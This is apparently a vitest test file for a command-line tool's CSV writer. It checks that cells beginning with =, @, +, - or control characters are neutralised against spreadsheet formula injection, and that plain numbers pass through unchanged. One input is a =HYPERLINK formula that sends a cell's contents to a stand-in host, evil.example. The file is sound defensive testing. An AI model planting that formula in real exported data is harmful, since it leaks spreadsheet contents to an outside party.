import { describe, expect, it } from 'vitest';
import { csvField, csvRow } from '../../../src/cli/output/csv.js';

describe('CSV cells a spreadsheet would run', () => {
  it('start with a quote mark, so a spreadsheet shows them as text', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"x")')).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
    expect(csvField('@SUM(1)')).toBe("'@SUM(1)");
    expect(csvField('+1+1')).toBe("'+1+1");
    expect(csvField('-1+1')).toBe("'-1+1");
    expect(csvField('\tx')).toBe("'\tx");
    expect(csvField('\rx')).toBe(`"'\rx"`);
    expect(csvField('=1,2')).toBe(`"'=1,2"`);
    expect(csvField('-')).toBe("'-");
    expect(csvField('+')).toBe("'+");
    // Not plain decimals: an exponent, a second sign, a bare point, a trailing point.
    expect(csvField('-1e3')).toBe("'-1e3");
    expect(csvField('--5')).toBe("'--5");
    expect(csvField('-.5')).toBe("'-.5");
    expect(csvField('-5.')).toBe("'-5.");
  });

  it('leave plain decimal numbers, and cells that start otherwise, as they are', () => {
    for (const value of ['-12.50', '+3', '-0.5', '12.50', '0', 'deposit', 'a=b', ' =1', 'x@y', '0xabc-1']) {
      expect(csvField(value)).toBe(value);
    }
  });

  it('apply to every column of a row', () => {
    const unknown = new Set<string>();
    const row = csvRow(
      { id: 'tx_1', type: '=cmd', status: '@x', token: '+t', chain: '-c', amount: '-12.50', transactionHash: '\th' },
      unknown,
    );
    expect(row).toBe(`tx_1,'=cmd,'@x,'+t,'-c,-12.50,'\th,\r\n`);
  });

  it('writes any value as one cell, never a formula: numbers, booleans and big integers as their text, objects as JSON', () => {
    expect(csvField(-12.5)).toBe('-12.5');
    expect(csvField(true)).toBe('true');
    expect(csvField(10n ** 20n)).toBe('100000000000000000000');
    expect(csvField(['=1', 2])).toBe(`"[""=1"",2]"`);
    expect(csvField({ note: '@x' })).toBe(`"{""note"":""@x""}"`);
  });
});
